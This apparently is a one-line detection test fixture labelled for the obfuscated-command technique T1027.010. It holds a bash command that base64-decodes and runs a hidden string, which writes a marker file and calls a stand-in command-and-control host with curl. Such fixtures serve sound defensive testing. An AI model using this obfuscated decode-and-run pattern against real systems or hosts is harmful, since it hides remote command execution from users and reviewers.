# expect: decoded-code-run | source: T1027.010
bash <<< "$(base64 --decode <<< ZWNobyBsb29rID4gL3RtcC9sb29rLmZpcmVkOyBjdXJsIC1zIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQv)"
